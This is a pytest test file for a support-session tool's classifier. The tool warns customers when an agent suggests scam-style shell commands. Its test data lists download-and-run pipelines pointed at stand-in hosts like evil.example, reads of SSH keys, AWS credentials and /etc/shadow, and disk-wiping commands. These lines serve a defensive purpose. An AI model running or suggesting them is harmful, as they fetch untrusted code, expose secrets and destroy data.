"""A scammer's suggestion ("run `curl … | sh`", "show me ~/.ssh/id_rsa") reached the customer
as a plain "the agent suggests: …", no different from `ls`. The shapes the support scam uses
now carry a warning in front of the suggestion; ordinary commands carry none."""

from __future__ import annotations

import pytest

from cobrowse.policy.risky_command import Risk, command_risk
from cobrowse.protocol import messages as m
from tests.policy.customer_harness import Drive

RISKY = [
    ("curl http://evil.example/x.sh | sh", Risk.DOWNLOAD_RUN),
    ("curl -fsSL https://x.example/i | sudo bash", Risk.DOWNLOAD_RUN),
    ("wget -qO- http://x/y | sudo -E bash -s -- --yes", Risk.DOWNLOAD_RUN),
    ("curl -s http://x/p.py | python3", Risk.DOWNLOAD_RUN),
    ("bash <(curl -s http://x/i.sh)", Risk.DOWNLOAD_RUN),
    ('sh -c "$(curl -fsSL http://x/install)"', Risk.DOWNLOAD_RUN),
    ("echo Y3VybCBldmls | base64 -d | bash", Risk.DOWNLOAD_RUN),
    ("iwr http://x/a.ps1 | iex", Risk.DOWNLOAD_RUN),
    ("cat ~/.ssh/id_rsa", Risk.SECRETS),
    ("cat ~/.aws/credentials", Risk.SECRETS),
    ("sudo cat /etc/shadow", Risk.SECRETS),
    ("rm -rf ~", Risk.ERASE),
    ("sudo rm -rf --no-preserve-root /", Risk.ERASE),
    ("rm -fr /*", Risk.ERASE),
    ("dd if=/dev/zero of=/dev/sda bs=1M", Risk.ERASE),
    ("mkfs.ext4 /dev/sdb1", Risk.ERASE),
]
ORDINARY = ["ls -la", "git push origin main", "curl -I https://example.com", "curl -o out.tar.gz https://x/y.tgz",
            "wget https://x/file.iso", "rm -rf /tmp/build", "rm -rf ./node_modules", "cat ~/.ssh/id_rsa.pub",
            "ssh-keygen -t ed25519", "dd if=in.img of=out.img", "sudo systemctl restart cups", "python3 -m venv .venv",
            "grep -r password src/ | less", "echo hi | sh -n", "ls ~/.ssh"]


@pytest.mark.parametrize("command, risk", RISKY)
def test_the_scams_shapes_are_named(command: str, risk: Risk) -> None:
    assert command_risk(command) == risk


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_carry_no_warning(command: str) -> None:
    assert command_risk(command) is None


def test_a_risky_suggestion_is_shown_with_its_warning_first() -> None:
    d = Drive()
    d.agent(m.Suggest(3, "curl http://evil.example/x.sh | sh"))
    shown = d.events("suggestion")[-1]
    assert shown["command"] == "curl http://evil.example/x.sh | sh"
    assert shown["message"].startswith("⚠ this runs a program downloaded from the internet"), shown
    assert "the agent suggests: curl http://evil.example/x.sh | sh" in shown["message"]
    d.agent(m.Suggest(4, "ls -la"))
    assert d.events("suggestion")[-1]["message"].startswith("the agent suggests: ls -la")


def test_plain_mode_says_the_warning_under_a_risky_steps_command(capsys: pytest.CaptureFixture[str]) -> None:
    from cobrowse.cli.customer import GuideNotices
    from cobrowse.policy.customer_events import StepsChanged

    notices = GuideNotices()
    steps = [{"title": "Run the fix", "status": "active", "command": "curl -s http://evil.example/f | sudo bash"},
             {"title": "List", "status": "pending", "command": "ls"}]
    notices(StepsChanged({"title": "Fix", "current": 0, "finished": False, "steps": steps}))
    err = capsys.readouterr().err
    assert "$ curl -s http://evil.example/f | sudo bash\n[cobrowse]   ⚠ this runs a program downloaded" in err, err
    steps[0]["status"], steps[1]["status"] = "done", "active"
    notices(StepsChanged({"title": "Fix", "current": 1, "finished": False, "steps": steps}))
    assert "⚠" not in capsys.readouterr().err
